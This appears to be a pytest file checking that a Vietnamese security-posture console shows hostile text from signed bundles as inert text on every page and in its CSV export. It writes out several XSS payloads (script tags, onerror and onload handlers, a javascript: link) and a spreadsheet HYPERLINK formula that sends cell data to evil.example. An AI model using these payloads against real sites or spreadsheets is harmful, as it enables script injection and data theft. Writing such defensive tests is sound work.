"""Hostile text from signed bundles is text on every console page (issue #15), in Chromium.

A signature proves who sent a bundle, not that its text is harmless: a commune's LAN can
carry any host name, banner or page title, and a compromised agent any unit name. One unit
sends all of these (markup, event handlers, a template expression, bidi overrides, a lone
surrogate's replacement); every page that shows them is loaded in headless Chromium, which
must show each payload as text, run none of it (no marker set, the title unchanged) and
report no Content-Security-Policy violation (which would mean markup got into the page and
only the policy stopped it).
"""

from __future__ import annotations

import json
import urllib.parse
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from console_client import PASSWORD, chromium, running_console
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from secposture.bundle.envelope import sign_payload
from secposture.config.sections import Level
from secposture.model.records import Finding, Service, Severity, Status, Target
from secposture.province.accounts import Role, add_user
from secposture.province.db.store import open_store
from secposture.province.hierarchy import load_collector_config
from secposture.province.synthetic import SyntheticUnit, make_payload
from secposture.scoring.score import score_findings

MARK = "window.__pwned=1;document.title='PWNED'"
PAYLOADS = {
    "script": f"<script>{MARK}</script>",
    "img": f'"><img src=x onerror="{MARK}">',
    "svg": f'\'><svg onload="{MARK}"></svg>',
    "link": f'<a href="javascript:{MARK}">bấm</a>',
    "template": "{{7*7}} {% raw %}",
    "style": "<style>body{display:none}</style>",
}
NAME = f"UBND xã Độc {PAYLOADS['script']}"
HOSTNAME = f"pc{PAYLOADS['img']}"
VENDOR = f"Hãng {PAYLOADS['svg']}"
OS = f"Windows 7 {PAYLOADS['link']}"
BANNER = f"Apache {PAYLOADS['style']}"
TITLE = f"Trang quản trị {PAYLOADS['template']} {PAYLOADS['script']}"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"bấm")'  # a banner a spreadsheet would run
UNIT = SyntheticUnit("xa-doc", NAME, Level.COMMUNE, "tn-tinh", Ed25519PrivateKey.generate(), 3, 0.2)


def hostile_bundle() -> bytes:
    """One sweep whose every text field a LAN or an agent controls is hostile."""
    payload = make_payload(UNIT, datetime(2026, 11, 30, 1, tzinfo=UTC))
    first = payload.hosts[0]
    web = Service(port=80, name="http", product=BANNER, version=PAYLOADS["img"],
                  extrainfo=PAYLOADS["svg"])  # fmt: skip
    host = first.model_copy(
        update={"hostname": HOSTNAME, "vendor": VENDOR, "os": OS,
                "services": (*first.services, web), "device_type": "server",
                "device_type_reason": PAYLOADS["link"]}
    )  # fmt: skip
    title = Finding(
        check_id="web.admin_exposed",
        status=Status.FAIL,
        severity=Severity.HIGH,
        target=Target(ip=first.ip, port=80, proto="tcp"),
        evidence=f"tiêu đề trang: {TITLE}",
    )
    formula = Finding(
        check_id="net.http_admin_cleartext",
        status=Status.FAIL,
        severity=Severity.MEDIUM,
        target=Target(ip=first.ip, port=8080, proto="tcp"),
        evidence=FORMULA,
    )
    findings = (*payload.findings, title, formula)
    hostile = payload.model_copy(
        update={"hosts": (host, *payload.hosts[1:]), "findings": findings,
                "score": score_findings(list(findings))}
    )  # fmt: skip
    return sign_payload(hostile, UNIT.key)


@pytest.fixture(scope="module")
def console(tmp_path_factory: pytest.TempPathFactory) -> Iterator[int]:
    tmp = tmp_path_factory.mktemp("console-hostile")
    config = tmp / "collector.toml"
    config.write_text(
        "\n".join([
            "[collector]", f'store = "{tmp / "store"}"', "[province]", 'id = "tn-tinh"',
            'name = "Tỉnh Tây Ninh"', "[[group]]", 'id = "cum-1"',
            f"name = {json.dumps('Cụm ' + PAYLOADS['img'])}", "[[unit]]", f'id = "{UNIT.id}"',
            f"name = {json.dumps(NAME)}", 'level = "commune"', 'groups = ["cum-1"]',
            f'keys = ["{UNIT.public_key}"]',
        ]) + "\n",
        encoding="utf-8",
    )  # fmt: skip
    store = open_store(load_collector_config(config))
    assert store.ingest(hostile_bundle(), source="test").accepted
    add_user(store.engine, "tinh", Role.PROVINCE, PASSWORD, hierarchy=store.hierarchy)
    store.engine.dispose()
    with running_console(config) as port:
        yield port


PAGES = {
    "overview": ("/", [NAME, "Cụm " + PAYLOADS["img"]]),
    "group": ("/groups/cum-1", [NAME]),
    "unit": ("/units/xa-doc", [NAME]),
    "report": ("/units/xa-doc/report", [NAME, HOSTNAME, TITLE]),
    "findings": ("/findings?check=web.admin_exposed", [TITLE]),
    "findings by text": (
        "/findings?" + urllib.parse.urlencode({"q": PAYLOADS["script"]}),
        [TITLE],
    ),
    "inventory": ("/inventory", [HOSTNAME, VENDOR, OS, BANNER]),
    "inventory by OS": ("/inventory?os=windows", [HOSTNAME, OS]),
    "registry": ("/registry", [NAME]),
}


def test_hostile_strings_are_text_on_every_console_page(console: int, tmp_path: Path) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    base = f"http://127.0.0.1:{console}"
    with chromium(tmp_path) as browser:
        wait = WebDriverWait(browser, 10)
        browser.get(base + "/login")
        browser.find_element(By.ID, "name").send_keys("tinh")
        browser.find_element(By.ID, "password").send_keys(PASSWORD)
        browser.find_element(By.CSS_SELECTOR, "form[action='/login'] button").click()
        wait.until(lambda d: d.current_url == base + "/")
        browser.get_log("browser")  # what the login pages logged is not the pages' concern
        for name, (path, expected) in PAGES.items():
            browser.get(base + path)
            wait.until(lambda d: d.execute_script("return document.readyState") == "complete")
            text = browser.find_element(By.TAG_NAME, "body").text
            ran: Any = browser.execute_script("return window.__pwned")
            assert ran is None and browser.title != "PWNED", name  # the title may quote it
            # each payload visible as text (the page's text joins lines with spaces)
            flat = " ".join(text.split())
            for wanted in expected:
                assert " ".join(wanted.split()) in flat, (name, wanted)
            # no element the payload would have made
            assert not browser.find_elements(By.CSS_SELECTOR, "main img[src='x'], main svg[onload]")
            violations = [
                e for e in browser.get_log("browser") if "Content Security" in e["message"]
            ]
            assert violations == [], (name, violations)


def test_the_csv_export_keeps_a_formula_from_the_lan_as_text(console: int) -> None:
    from console_client import Client

    me = Client(console)
    assert me.log_in("tinh") == 303
    status, headers, body = me.request("GET", "/findings?status=fail&format=csv")
    assert status == 200 and headers["content-type"].startswith("text/csv")
    lines = body.lstrip("\ufeff").splitlines()
    assert lines[0] == "unit_id,check_id,status,severity,ip,port,proto,evidence,reason,waiver"
    (line,) = [x for x in lines if "HYPERLINK" in x]
    assert "\"'=HYPERLINK(" in line  # the apostrophe: shown, never evaluated
